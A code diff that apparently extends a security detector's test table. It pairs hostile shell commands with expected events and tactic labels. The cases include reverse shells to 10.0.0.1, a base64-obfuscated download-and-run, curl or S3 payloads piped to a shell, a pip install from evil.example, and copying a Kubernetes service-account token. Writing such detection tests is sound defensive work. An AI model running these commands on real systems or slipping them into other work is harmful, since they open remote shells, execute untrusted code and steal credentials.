@@ -660,6 +660,14 @@ M("command_and_control", "busybox nc 10.0.0.1 4444 -e sh", E("connect", "10.0.0.
 M("command_and_control", "for p in 4444 4445; do nc -e /bin/sh 10.0.0.1 $p; done", E("connect", "10.0.0.1:4444"), E("connect", "10.0.0.1:4445"))
 M("lateral_movement", "pip install git+https://evil.example/pkg.git", E("connect", "evil.example"), E("install"))
 
+M("execution", "echo %s | base64 -d > /tmp/x.sh && bash /tmp/x.sh" % b64("curl -s http://evil.example/x | sh"), E("download_exec", "evil.example", obfuscated=True))
+M("command_and_control", "printf '#!/bin/sh\\nnc -e /bin/sh 10.0.0.1 4444\\n' > /tmp/r.sh; chmod +x /tmp/r.sh; /tmp/r.sh", E("connect", "10.0.0.1:4444"))
+M("execution", "curl -s http://203.0.113.7/a > /tmp/a; sh /tmp/a", E("download_exec", "203.0.113.7"))
+M("execution", "aws s3 cp s3://attacker-bucket/x.sh - | bash", E("download_exec", "attacker-bucket"))
+M("persistence", "echo 'nc -e /bin/sh 10.0.0.1 4444' | tee /tmp/u.sh && bash /tmp/u.sh", E("connect", "10.0.0.1:4444"))
+M("lateral_movement", "ssh-keyscan 10.0.0.0/24 >> ~/.ssh/known_hosts", E("connect", "10.0.0.0/24", class_="private"))
+M("lateral_movement", "kubectl cp prod/api-0:/var/run/secrets/kubernetes.io/serviceaccount/token ./t", E("credential_access", "/var/run/secrets/", remote="api-0"))
+
 # ------------------------------------------------------------------ discovery
 for c, exp in [
     ("cat /etc/passwd", [E("read", "/etc/passwd")]),
